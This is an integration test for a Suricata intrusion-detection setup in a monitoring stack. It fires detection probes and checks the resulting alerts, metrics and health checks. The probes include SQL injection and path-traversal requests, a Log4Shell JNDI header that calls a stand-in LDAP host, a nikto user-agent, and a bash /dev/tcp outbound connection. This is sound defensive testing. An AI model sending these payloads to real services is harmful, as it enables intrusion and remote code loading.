import { request } from 'node:http';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { queryOf } from '../../../src/services/monitoring/panels/panel.ts';
import { PANELS } from '../../../src/services/monitoring/panels/panels.ts';
import { type Asked, askedPrometheus } from '../../support/alerts/prometheus.ts';
import { docker } from '../../support/cli.ts';
import { json } from '../../support/command.ts';
import { until } from '../../support/stack.ts';
import { type Workspace, workspace } from '../../support/workspace.ts';

const SCRAPE = 5;
const EXPORTERS = ['node-exporter', 'postgres-exporter', 'redis-exporter', 'blackbox-exporter', 'nginx-exporter'];
const MEMORY = 192 * 1024 ** 2;

let space: Workspace;
let prometheus: Asked;
const named = (service: string) => `${space.project}-${service}-1`;
const must = async (...args: string[]) => {
  const done = await space.run(args);
  expect({ args, status: done.status, stderr: done.stderr }).toMatchObject({ status: 0 });
  return done.stdout;
};
const check = async () => {
  const { checks } = json((await space.run(['health', '--json'])).stdout) as unknown as {
    checks: { id: string; status: string; message: string; value?: number }[];
  };
  return checks.find(({ id }) => id === 'intrusion');
};
/** A request to the plain port, its path as it is: a client of the language would tidy it up. */
const ask = (path: string, headers: Record<string, string> = {}) =>
  new Promise<number>((resolve, reject) => {
    request({ host: '127.0.0.1', port: space.httpPort, path, headers }, (answer) => {
      answer.resume();
      resolve(answer.statusCode ?? 0);
    })
      .on('error', reject)
      .end();
  });

beforeAll(async () => {
  space = await workspace('intrusion');
  const off = Object.fromEntries([...EXPORTERS, 'alertmanager', 'app', 'postgres', 'redis', 'backup'].map((name) => [name, false]));
  space.configure({
    profile: 'dev-compose',
    observability: 'light',
    components: { ...off, agent: true, 'engine-proxy': true, suricata: true },
    prometheus: { scrapeSeconds: SCRAPE },
  });
  await must('up');
  prometheus = askedPrometheus(named('prometheus'));
}, 600_000);
afterAll(() => space?.destroy());

test('a line of an attack raises an alert, which health tells; a request of a visitor raises none', async () => {
  expect(await check()).toMatchObject({ status: 'ok' });
  await ask('/search?title=Select%20a%20film%20from%20the%20list&or=1');
  await ask('/a/../../etc/passwd');
  await ask('/?id=1%20union%20select%20password%20from%20users');
  await ask('/', { 'X-Api': `\${jndi:ldap://192.0.2.1/a}` });
  await until('health tells of it', async () => ((await check())?.value ?? 0) >= 4, 20);
  const told = await check();
  expect(told).toMatchObject({ status: 'warn', value: 4 });
  const said = await must('logs', 'suricata');
  const raised = [...new Set([...said.matchAll(/"signature":"([^"]+)"/g)].map(([, signature]) => signature))].sort();
  expect(raised, said).toEqual([
    'MediaNest: Log4Shell in a header',
    'MediaNest: SQL in a request',
    'MediaNest: path traversal in a request',
    'MediaNest: request for files of the system',
  ]);
}, 60_000);

test('it has one capability, the interfaces of the host, no port, and less memory than its limit', async () => {
  const { stdout } = await docker(['inspect', `${space.project}-suricata-1`]);
  const [{ HostConfig }] = JSON.parse(stdout) as [{ HostConfig: Record<string, unknown> }];
  expect(HostConfig).toMatchObject({ NetworkMode: 'host', CapAdd: ['CAP_NET_RAW'], CapDrop: ['ALL'], Privileged: false, Memory: MEMORY });
  const top = (await docker(['top', `${space.project}-suricata-1`, '-o', 'pid,rss,args'])).stdout;
  const rss = Number(/^\s*\d+\s+(\d+)\s+suricata -c/m.exec(top)?.[1]) * 1024;
  expect(rss).toBeGreaterThan(10 * 1024 ** 2);
  expect(rss).toBeLessThan(MEMORY / 2);
}, 30_000);

test('Prometheus counts what it has seen, and the picture has data', async () => {
  const value = async (query: string) => (await prometheus.now(query))[0]?.points[0]?.[1] ?? Number.NaN;
  await until('its alerts are counted', async () => (await value('medianest_suricata_alerts_total{severity="high"}')) === 4, 40);
  expect(await value('medianest_suricata_packets_total')).toBeGreaterThan(20);
  expect(await value('medianest_suricata_dropped_packets_total')).toBe(0);
  expect(await value('medianest_suricata_calls_outside_total')).toBe(0);
  const panel = PANELS.filter(({ of }) => of === 'suricata').map((one) => queryOf(one, SCRAPE, SCRAPE));
  expect(panel).toHaveLength(1);
  expect((await prometheus.now(panel[0] ?? '')).map(({ labels }) => labels.severity).sort()).toEqual(['high', 'low', 'medium']);
}, 60_000);

test('a container of dmz that calls outside is told at once', async () => {
  await docker(['exec', named('edge'), 'bash', '-c', 'timeout 2 bash -c ">/dev/tcp/192.0.2.1/443"; true']);
  await until('ContainerCallsOutside fires', () => prometheus.fires('ContainerCallsOutside'), 60);
}, 90_000);

test('where its figures end, its health check fails; alerts are logged all the same', async () => {
  const kill = 'for each in /proc/[0-9]*; do [ "$(cat "$each/comm")" != mawk ] || kill -9 "${each#/proc/}"; done';
  const healthy = async () => (await docker(['exec', named('suricata'), 'healthcheck'])).status === 0;
  expect(await healthy()).toBe(true);
  await docker(['exec', named('suricata'), 'bash', '-c', kill]);
  const before = (await check())?.value ?? 0;
  // Of a rule that has told nothing yet: each tells an address once a minute.
  await ask('/', { 'User-Agent': 'nikto' });
  await until('the alert is told', async () => ((await check())?.value ?? 0) === before + 1, 20);
  await until('the health check fails', async () => !(await healthy()), 50);
}, 90_000);

test('one that is stopped is told, and its last figures are not taken for present ones', async () => {
  await docker(['stop', named('suricata')]);
  await until('SuricataDown fires', () => prometheus.fires('SuricataDown'), 120);
  expect(await prometheus.now('medianest_suricata_packets_total')).toEqual([]);
}, 150_000);
